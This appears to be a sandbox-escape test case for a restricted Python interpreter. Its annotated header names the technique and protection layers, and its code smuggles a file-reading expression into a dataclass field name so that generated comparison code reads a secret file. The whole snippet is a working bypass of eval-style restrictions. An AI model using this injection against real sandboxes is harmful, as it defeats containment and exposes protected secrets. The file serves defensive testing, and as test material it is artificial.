# class: eval-like library code
# technique: the dataclass decorator pastes field names into source text
# layers: interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
import dataclasses
u = chr(95) * 2
def name(*parts):
    return "".join([u, *parts, u])
box = []
key = "x or box.append(open(path).read()) or self.x"
Made = kind(int)("Made", (), {name("annot", "ations"): {key: int}, name("mod", "ule"): "json.decoder", "x": 0})
Plain = dataclasses.dataclass(init=False, repr=False, match_args=False)(Made)
import json
json.decoder.box, json.decoder.path = box, host["secret"]
Plain() == Plain()
return [{"json": {"reached": box[0]}}]
